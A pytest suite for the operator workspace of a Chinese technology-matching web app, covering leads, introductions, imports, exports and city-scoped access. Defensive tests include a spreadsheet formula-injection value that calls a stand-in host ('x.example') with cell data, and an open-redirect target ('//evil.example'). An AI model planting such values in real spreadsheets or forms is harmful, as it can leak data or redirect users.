"""The operators' workspace: lead inbox, introductions board, imports."""

from __future__ import annotations

import io
import re
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook

from factorlink.auth.models import Role
from factorlink.db.session import Database
from factorlink.imports.writers import write_rows
from factorlink.introduction.models import IntroductionStatus, PartyKind
from tests.factories import MakeOrganization
from tests.imports.builders import ACHIEVEMENT_HEADERS, achievement, rows_grid, write_xlsx
from tests.introduction.builders import EXAMPLES, add_lead, add_listing, introduce
from tests.kit.test_formulas import PAYLOADS, written_cells
from tests.web.conftest import LoginAs, MakeWebUser, csrf_token

LEAD: dict[str, Any] = {
    "lead_type": "technology",
    "need": "寻找石墨烯散热膜技术",
    "company": "某电子有限公司",
    "contact_name": "周总",
    "contact_mobile": "13500005555",
    "preferred_cities": "杭州",
    "consent": True,
}


def _deal_amount(client: TestClient) -> str:
    found = re.search(r'id="deal-amount">([^<]*)<', client.get("/").text)
    assert found
    return found.group(1)


def test_workspace_is_for_staff_only(
    client: TestClient, make_org: MakeOrganization, make_web_user: MakeWebUser, login_as: LoginAs
) -> None:
    redirected = client.get("/workspace/leads", follow_redirects=False)
    assert redirected.status_code == 303
    assert redirected.headers["location"].startswith("/login?next=")
    login_as(client, make_web_user("member", Role.member, organization_id=make_org().id))
    refused = client.get("/workspace/introductions")
    assert refused.status_code == 403 and "仅运营人员可操作" in refused.text
    assert "工作台" not in client.get("/").text


def test_inbox_lead_and_introduction(
    client: TestClient, database: Database, make_web_user: MakeWebUser, login_as: LoginAs
) -> None:
    achievement_id = add_listing(database, "achievement", **EXAMPLES["achievement"])
    lead_id = add_lead(database, **LEAD)
    login_as(client, make_web_user("ops", Role.operator))
    assert client.get("/workspace/leads?status=&type=&city=").status_code == 200  # 全部
    assert client.get("/workspace/leads?status=bogus").status_code == 422
    inbox = client.get("/workspace/leads?status=new")
    assert f'data-id="{lead_id}"' in inbox.text and "13500005555" in inbox.text
    detail = client.get(f"/workspace/leads/{lead_id}")
    assert f'name="b_id" value="{achievement_id}"' in detail.text
    # Each match says why: the criteria judged, with nothing "信息不全".
    assert 'class="criteria"' in detail.text and "信息不全" not in detail.text
    token = csrf_token(detail.text)
    made = client.post(
        "/workspace/introductions",
        data={
            "csrf_token": token,
            "a_kind": "lead",
            "a_id": str(lead_id),
            "b_kind": "achievement",
            "b_id": str(achievement_id),
        },
        follow_redirects=False,
    )
    assert made.status_code == 303
    again = client.post(
        "/workspace/introductions",
        data={
            "csrf_token": token,
            "a_kind": "lead",
            "a_id": str(lead_id),
            "b_kind": "achievement",
            "b_id": str(achievement_id),
        },
    )
    assert again.status_code == 409 and "已有进行中的对接" in again.text
    board = client.get("/workspace/introductions").text
    proposed = board.split('data-status="proposed"')[1].split('data-status="contacted"')[0]
    assert "寻找石墨烯散热膜技术" in proposed
    moved = client.post(
        f"/workspace/leads/{lead_id}/status",
        data={"csrf_token": token, "status": "closed"},
        follow_redirects=False,
    )
    assert moved.status_code == 303
    assert "已关闭" in client.get(f"/workspace/leads/{lead_id}").text


def test_signing_changes_the_dashboard(
    client: TestClient, database: Database, make_web_user: MakeWebUser, login_as: LoginAs
) -> None:
    a = add_listing(database, "achievement", **EXAMPLES["achievement"])
    d = add_listing(database, "demand", **EXAMPLES["demand"])
    intro = introduce(
        database,
        (PartyKind.demand, d),
        (PartyKind.achievement, a),
        [
            (IntroductionStatus.contacted, datetime(2026, 3, 2, tzinfo=UTC), {}),
            (IntroductionStatus.negotiating, datetime(2026, 3, 9, tzinfo=UTC), {}),
        ],
        at=datetime(2026, 3, 1, tzinfo=UTC),
    )
    login_as(client, make_web_user("ops", Role.admin))
    assert _deal_amount(client) == "0"
    token = csrf_token(client.get("/workspace/introductions").text)
    url = f"/workspace/introductions/{intro}/transition"
    refused = client.post(url, data={"csrf_token": token, "to": "signed"})
    assert refused.status_code == 422 and 'role="alert"' in refused.text
    signed = client.post(
        url, data={"csrf_token": token, "to": "signed", "amount_wan": "350"}, follow_redirects=False
    )
    assert signed.status_code == 303
    board = client.get("/workspace/introductions").text
    column = board.split('data-status="signed"')[1].split('data-status="closed"')[0]
    assert f'data-id="{intro}"' in column and '<strong class="amount">350</strong>' in column
    assert _deal_amount(client) == "350"


def test_import_with_a_bad_row_shows_the_report(
    client: TestClient, make_web_user: MakeWebUser, login_as: LoginAs, tmp_path: Path
) -> None:
    login_as(client, make_web_user("ops", Role.admin))
    rows = [achievement("ACH-0001"), achievement("ACH-0002", **{"手机号": "12345"})]
    path = write_xlsx(tmp_path / "成果.xlsx", rows_grid(rows))
    page = client.get("/workspace/import")
    token = csrf_token(page.text)
    with path.open("rb") as f:
        response = client.post(
            "/workspace/import",
            data={"csrf_token": token, "kind": "achievement"},
            files={"file": ("成果.xlsx", f, "application/octet-stream")},
        )
    assert response.status_code == 200, response.text
    html = response.text
    assert "导入失败" in html and 'id="count-rejected">1<' in html
    assert re.search(r"<tr><td>3</td><td>手机号</td>", html), "row 3 of the sheet, column 手机号"
    assert client.get("/achievements").text.count('class="panel result"') == 0
    link = re.search(r'href="(/workspace/import/rejected/[^"]+)"', html)
    assert link
    download = client.get(link.group(1))
    assert download.status_code == 200
    sheet = load_workbook(io.BytesIO(download.content)).active
    assert sheet is not None
    values = [[c.value for c in row] for row in sheet.iter_rows()]
    assert values[0][: len(ACHIEVEMENT_HEADERS)] == list(ACHIEVEMENT_HEADERS)
    assert len(values) == 2 and values[1][-1] == 3
    # Another user cannot fetch it.
    client.post("/logout", data={"csrf_token": csrf_token(client.get("/").text)})
    login_as(client, make_web_user("ops2", Role.admin))
    assert client.get(link.group(1)).status_code == 404


def test_skip_invalid_loads_the_good_rows(
    client: TestClient, make_web_user: MakeWebUser, login_as: LoginAs, tmp_path: Path
) -> None:
    login_as(client, make_web_user("ops", Role.admin))
    rows = [achievement("ACH-0001"), achievement("ACH-0002", **{"所在城市*": "北京"})]
    path = write_xlsx(tmp_path / "a.xlsx", rows_grid(rows))
    token = csrf_token(client.get("/workspace/import").text)
    with path.open("rb") as f:
        response = client.post(
            "/workspace/import",
            data={"csrf_token": token, "kind": "achievement", "skip_invalid": "yes"},
            files={"file": ("a.xlsx", f, "application/octet-stream")},
        )
    assert 'id="count-created">1<' in response.text
    assert client.get("/achievements").text.count('class="panel result"') == 1


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_rejected_rows_download_writes_no_formula(
    client: TestClient, make_web_user: MakeWebUser, login_as: LoginAs, fmt: str
) -> None:
    login_as(client, make_web_user("ops", Role.admin))
    rows = [
        achievement(f"A{i}", **{"成果名称*": p, "所在城市*": "北京"})
        for i, p in enumerate(PAYLOADS)
    ]
    grid = rows_grid(rows)
    token = csrf_token(client.get("/workspace/import").text)
    response = client.post(
        "/workspace/import",
        data={"csrf_token": token, "kind": "achievement", "skip_invalid": "yes"},
        files={"file": (f"a.{fmt}", write_rows(fmt, grid[0], grid[1:]), "text/plain")},
    )
    link = re.search(r'href="(/workspace/import/rejected/[^"]+)"', response.text)
    assert link, response.text
    cells = written_cells(fmt, client.get(link.group(1)).content)
    title = cells[0].index("成果名称*")
    assert [r[title] for r in cells[1:]] == [r[title] for r in grid[1:]]


def test_template_download_and_missing_file(
    client: TestClient, make_web_user: MakeWebUser, login_as: LoginAs
) -> None:
    login_as(client, make_web_user("ops", Role.operator))
    template = client.get("/workspace/import/template?kind=demand")
    assert template.status_code == 200
    assert "demand-template.xlsx" in template.headers["content-disposition"]
    load_workbook(io.BytesIO(template.content))
    token = csrf_token(client.get("/workspace/import").text)
    response = client.post("/workspace/import", data={"csrf_token": token, "kind": "demand"})
    assert response.status_code == 422 and 'id="err-file"' in response.text


# --- The operators' cockpit (issue 15) ---------------------------------------------------------

TWIN = {**LEAD, "need": "石墨烯导热膜,手机散热用", "company": None}


def test_inbox_carries_the_work_and_flags_look_alikes(
    client: TestClient, database: Database, make_web_user: MakeWebUser, login_as: LoginAs
) -> None:
    lead_id = add_lead(database, purpose="新产品导入", annual_tax_wan="年纳税约500万", **LEAD)
    twin_id = add_lead(database, **TWIN)  # the same mobile: flagged
    other_id = add_lead(
        database,
        **{**LEAD, "need": "厂房5000平", "contact_mobile": "13600006666", "company": "另一家公司"},
    )
    login_as(client, make_web_user("hz", Role.operator, city_scope=["hangzhou"]))
    page = client.get("/workspace/leads").text
    row = page.split(f'<tr data-id="{lead_id}"')[1].split("</tr>")[0]
    for text in (
        "某电子有限公司",
        "新产品导入",
        "年纳税约500万",
        "未指派",
        "新线索",
        "已收到 0 天",
    ):
        assert text in row, text
    assert 'href="tel:13500005555"' in row
    assert f'href="/workspace/leads/{twin_id}">#{twin_id}<' in row
    other = page.split(f'<tr data-id="{other_id}"')[1].split("</tr>")[0]
    assert "疑似重复" not in other
    # Filtered by words and by owner; a blank filter is no filter.
    assert f'data-id="{other_id}"' not in client.get("/workspace/leads?q=石墨烯").text
    assert 'data-id="' not in client.get("/workspace/leads?owner=me").text.split("<tbody>")[1]


def test_tel_links_only_for_a_number_one_may_see(
    client: TestClient, database: Database, make_web_user: MakeWebUser, login_as: LoginAs
) -> None:
    demand = add_listing(database, "demand", **EXAMPLES["demand"])  # 嘉兴
    achievement = add_listing(database, "achievement", **EXAMPLES["achievement"])  # 杭州
    intro = introduce(database, (PartyKind.demand, demand), (PartyKind.achievement, achievement))
    login_as(client, make_web_user("jx", Role.operator, city_scope=["jiaxing"]))
    page = client.get(f"/workspace/introductions/{intro}").text
    a, b = page.split('class="party"')[1:3]
    assert 'href="tel:13812345678"' in a, "in scope: the number, callable"
    assert "138****5678" in b and "tel:" not in b, "out of scope: masked, no link"


def test_the_inbox_exports_to_excel_with_formulas_kept_as_text(
    client: TestClient, database: Database, make_web_user: MakeWebUser, login_as: LoginAs
) -> None:
    add_lead(database, **LEAD)
    add_lead(database, **{**TWIN, "purpose": '=HYPERLINK("http://x.example/?"&A2,"点击")'})
    login_as(client, make_web_user("ops", Role.admin))
    response = client.get("/workspace/leads/export?type=technology")
    assert response.status_code == 200
    assert "attachment" in response.headers["content-disposition"]
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet is not None
    rows = [[c for c in row] for row in sheet.iter_rows()]
    headers = [c.value for c in rows[0]]
    assert headers[:4] == ["受理编号", "收到时间(北京时间)", "需求类型", "需求"]
    assert {"用途", "税收", "公司", "手机号", "负责人", "下一步", "疑似重复", "跟进记录"} <= set(
        headers
    )
    purpose = headers.index("用途")
    cell = next(r[purpose] for r in rows[1:] if r[purpose].value)
    assert cell.data_type == "s" and cell.quotePrefix, "a formula typed in stays text"
    assert [r[headers.index("疑似重复")].value for r in rows[1:]] != [None, None]
    assert client.get("/workspace/leads/export?status=bogus").status_code == 422


def test_owner_and_follow_ups_of_a_lead(
    client: TestClient, database: Database, make_web_user: MakeWebUser, login_as: LoginAs
) -> None:
    lead_id = add_lead(database, **LEAD)
    ops = make_web_user("ops", Role.operator, display_name="王运营")
    member = make_web_user("m", Role.member)
    login_as(client, ops)
    page = client.get(f"/workspace/leads/{lead_id}")
    token = csrf_token(page.text)
    url = f"/workspace/leads/{lead_id}"
    refused = client.post(url + "/owner", data={"csrf_token": token, "owner_id": str(member.id)})
    assert refused.status_code == 422 and "不是在职的运营人员" in refused.text
    owned = client.post(
        url + "/owner", data={"csrf_token": token, "owner_id": str(ops.id)}, follow_redirects=False
    )
    assert owned.status_code == 303
    undated = client.post(
        url + "/follow-ups",
        data={"csrf_token": token, "note": "已电话联系", "due_on": "2026-12-08"},
    )
    assert undated.status_code == 422 and "请同时填写下一步" in undated.text
    bad_day = client.post(
        url + "/follow-ups",
        data={"csrf_token": token, "note": "x", "next_step": "回电", "due_on": "12/08"},
    )
    assert bad_day.status_code == 422 and 'aria-invalid="true"' in bad_day.text
    added = client.post(
        url + "/follow-ups",
        data={
            "csrf_token": token,
            "note": "已电话联系,确认需求",
            "next_step": "约专家交流",
            "due_on": "2026-12-08",
        },
        follow_redirects=False,
    )
    assert added.status_code == 303
    shown = client.get(url).text
    assert "约专家交流 · 2026-12-08" in shown and "已电话联系,确认需求" in shown
    assert "处理中" in shown.split("</h2>")[0], "a follow-up takes a new lead up"
    row = client.get("/workspace/leads?owner=me").text.split(f'<tr data-id="{lead_id}"')[1]
    assert "王运营" in row.split("</tr>")[0] and "约专家交流" in row.split("</tr>")[0]


def test_an_introduction_page_with_its_timeline_moves_and_work(
    client: TestClient, database: Database, make_web_user: MakeWebUser, login_as: LoginAs
) -> None:
    lead_id = add_lead(database, purpose="新产品导入", annual_tax_wan="500万", **LEAD)
    achievement = add_listing(database, "achievement", **EXAMPLES["achievement"])
    intro = introduce(
        database,
        (PartyKind.lead, lead_id),
        (PartyKind.achievement, achievement),
        [(IntroductionStatus.contacted, datetime(2026, 3, 2, tzinfo=UTC), {})],
        at=datetime(2026, 3, 1, tzinfo=UTC),
    )
    login_as(client, make_web_user("ops", Role.admin, display_name="王运营"))
    url = f"/workspace/introductions/{intro}"
    page = client.get(url).text
    a = page.split('class="party"')[1]
    for text in ("某电子有限公司", "新产品导入", "500万"):
        assert text in a, text
    assert "示例大学" in page.split('class="party"')[2]
    assert re.search(r"在此阶段 \d+ 天", page) and '<span class="flag warn">停滞' in page
    assert "2026-03-02 08:00" in page, "times in Beijing time"
    token = csrf_token(page)
    refused = client.post(
        url + "/transition", data={"csrf_token": token, "to": "signed", "back": url}
    )
    assert refused.status_code == 409 and 'role="alert"' in refused.text
    assert 'class="panel intro-page"' in refused.text, "the refusal shows on the page"
    moved = client.post(
        url + "/transition",
        data={"csrf_token": token, "to": "negotiating", "back": url},
        follow_redirects=False,
    )
    assert moved.status_code == 303 and moved.headers["location"] == url
    client.post(
        url + "/follow-ups", data={"csrf_token": token, "note": "报价已发", "next_step": "等回复"}
    )
    page = client.get(url).text
    timeline = page.split('id="timeline"')[1]
    assert timeline.index("报价已发") < timeline.index("洽谈中") < timeline.index("已联系")
    board = client.get("/workspace/introductions").text
    card = board.split(f'id="intro-{intro}"')[1].split("</article>")[0]
    assert "某电子有限公司 ↔ 示例大学" in card and "下一步:等回复" in card
    assert f'href="/workspace/introductions/{intro}"' in card
    # Another site never gets back from the form.
    elsewhere = client.post(
        url + "/transition",
        data={"csrf_token": token, "to": "signed", "amount_wan": "10", "back": "//evil.example"},
        follow_redirects=False,
    )
    assert elsewhere.headers["location"] == f"/workspace/introductions#intro-{intro}"


def test_members_requests_arrive_in_the_inbox_to_be_accepted(
    client: TestClient,
    database: Database,
    make_org: MakeOrganization,
    make_web_user: MakeWebUser,
    login_as: LoginAs,
) -> None:
    org = make_org("嘉兴示例新能源有限公司", city="jiaxing")
    demand = add_listing(database, "demand", **EXAMPLES["demand"])
    achievement = add_listing(database, "achievement", **EXAMPLES["achievement"])
    member = make_web_user("m", Role.member, organization_id=org.id)
    login_as(client, member)
    token = csrf_token(client.get(f"/demands/{demand}").text)
    asked = client.post(
        "/my/introductions",
        data={
            "csrf_token": token,
            "a_kind": "demand",
            "a_id": str(demand),
            "b_kind": "achievement",
            "b_id": str(achievement),
        },
        follow_redirects=False,
    )
    assert asked.status_code == 303
    client.post("/logout", data={"csrf_token": csrf_token(client.get("/").text)})
    login_as(client, make_web_user("jx", Role.operator, city_scope=["jiaxing"]))
    inbox = client.get("/workspace/leads").text
    queue = inbox.split('id="requests"')[1].split("</section>")[0]
    assert "嘉兴示例新能源有限公司 ↔ 示例大学" in queue
    intro = int(re.findall(r'href="/workspace/introductions/(\d+)"', queue)[0])
    page = client.get(f"/workspace/introductions/{intro}").text
    assert ">受理</button>" in page and ">婉拒</button>" in page
    accepted = client.post(
        f"/workspace/introductions/{intro}/transition",
        data={"csrf_token": csrf_token(page), "to": "proposed"},
        follow_redirects=False,
    )
    assert accepted.status_code == 303
    assert 'id="requests"' not in client.get("/workspace/leads").text


def test_introduce_from_a_match_panel_and_from_a_search(
    client: TestClient,
    database: Database,
    make_org: MakeOrganization,
    make_web_user: MakeWebUser,
    login_as: LoginAs,
) -> None:
    demand = add_listing(database, "demand", **EXAMPLES["demand"])
    achievement = add_listing(database, "achievement", **EXAMPLES["achievement"])
    expert = add_listing(database, "expert", **EXAMPLES["expert"])
    member = make_web_user("m", Role.member, organization_id=make_org().id)
    login_as(client, member)
    assert 'action="/workspace/introductions"' not in client.get(f"/demands/{demand}").text
    client.post("/logout", data={"csrf_token": csrf_token(client.get("/").text)})
    login_as(client, make_web_user("jx", Role.operator, city_scope=["jiaxing"]))
    page = client.get(f"/demands/{demand}").text
    panel = page.split('id="matches"')[1]
    assert 'name="a_kind" value="demand"' in panel and f'name="b_id" value="{achievement}"' in panel
    form = {
        "csrf_token": csrf_token(page),
        "a_kind": "demand",
        "a_id": str(demand),
        "b_kind": "achievement",
        "b_id": str(achievement),
    }
    made = client.post("/workspace/introductions", data=form, follow_redirects=False)
    assert made.status_code == 303
    intro_url = made.headers["location"].split("?")[0]
    assert re.fullmatch(r"/workspace/introductions/\d+", intro_url)
    again = client.post("/workspace/introductions", data=form, follow_redirects=False)
    assert again.headers["location"] == intro_url + "?exists=1"

    search = client.get(
        f"/workspace/introductions/new?a_kind=demand&a_id={demand}&kind=expert&q=石墨烯"
    )
    assert search.status_code == 200
    result = search.text.split('class="result"')[1]
    assert "陈立新" in result and f'name="b_id" value="{expert}"' in result
    search = client.get(
        f"/workspace/introductions/new?a_kind=demand&a_id={demand}&kind=achievement"
    )
    assert f"/workspace/introductions/{intro_url.rsplit('/', 1)[1]}" in search.text, "open: linked"
    assert client.get("/workspace/introductions/new?a_kind=bogus&a_id=1").status_code == 422
    missing = client.get("/workspace/introductions/new?a_kind=demand&a_id=999")
    assert missing.status_code == 422 and "不存在" in missing.text


def test_operators_work_within_their_cities(
    client: TestClient, database: Database, make_web_user: MakeWebUser, login_as: LoginAs
) -> None:
    demand = add_listing(database, "demand", **EXAMPLES["demand"])  # 嘉兴
    achievement = add_listing(database, "achievement", **EXAMPLES["achievement"])  # 杭州
    intro = introduce(database, (PartyKind.demand, demand), (PartyKind.achievement, achievement))
    ops = make_web_user("hf", Role.operator, city_scope=["hefei"])
    login_as(client, ops)
    assert client.get(f"/workspace/introductions/{intro}").status_code == 403
    token = csrf_token(client.get("/workspace/leads").text)
    refused = client.post(
        f"/workspace/introductions/{intro}/owner",
        data={"csrf_token": token, "owner_id": str(ops.id)},
    )
    assert refused.status_code == 403
    refused = client.post(
        f"/workspace/introductions/{intro}/follow-ups", data={"csrf_token": token, "note": "x"}
    )
    assert refused.status_code == 403
